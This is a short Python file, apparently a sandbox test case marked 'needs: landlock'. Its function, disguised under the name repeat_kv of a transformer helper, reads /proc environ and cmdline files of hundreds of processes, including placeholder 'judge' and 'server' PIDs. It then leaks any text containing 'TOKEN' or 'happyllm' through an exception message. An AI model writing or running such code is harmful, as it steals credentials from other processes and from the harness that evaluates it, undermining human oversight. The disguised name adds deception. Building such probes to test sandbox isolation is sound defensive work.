# outcome: error
# needs: landlock
"""Looks for secrets in the environment of every process that /proc shows."""

import os


def repeat_kv(x, n_rep):
    found = []
    for pid in [
        "self",
        "1",
        "{{judge}}",
        "{{server}}",
        str(os.getppid()),
        *map(str, range(1, 400)),
    ]:
        for part in ("environ", "cmdline", "task/" + pid + "/environ"):
            try:
                with open(f"/proc/{pid}/{part}", "rb") as file:
                    found.append(file.read())
            except OSError:
                continue
    raise ValueError(repr([text for text in found if b"TOKEN" in text or b"happyllm" in text]))
